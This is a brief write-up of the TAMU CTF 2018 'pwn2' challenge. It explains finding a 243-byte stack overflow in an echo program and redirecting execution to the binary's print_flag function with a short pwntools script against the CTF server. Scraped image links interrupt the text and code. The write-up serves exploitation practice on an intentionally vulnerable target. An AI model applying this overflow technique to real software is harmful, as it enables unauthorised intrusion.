TAMU CTF 2018 - PWN2

tags: ctf springchicken challenge
by zangobot

pwn2 asks the user to enter a sentence and it will reply with the same message.

I just love repeating what other people say!
I bet I can repeat anything you tell me!



My intuition is suggesting me to mess with the length of the input string.

After some trials, I found that with a string longer than 243 characters, theprogram halts in SIGSEGV.

This time, the buffer is long enough for a shellcraft… if only the NX bit were disabled.

I can’t proceed in that direction. Should I use ROP?

Why the hell? There is the print_flag function in the binary! As regards ASLR and canary, same as pwn1, they are both disabled.

So, theexploit is:

from pwn import*

OFFSET = 243
shell= p32(0x0804854b)
exploit = 'A'*OFFSET + shell
rem = remote('pwn.ctf.tamu.edu', 4322)

Flag captured :-D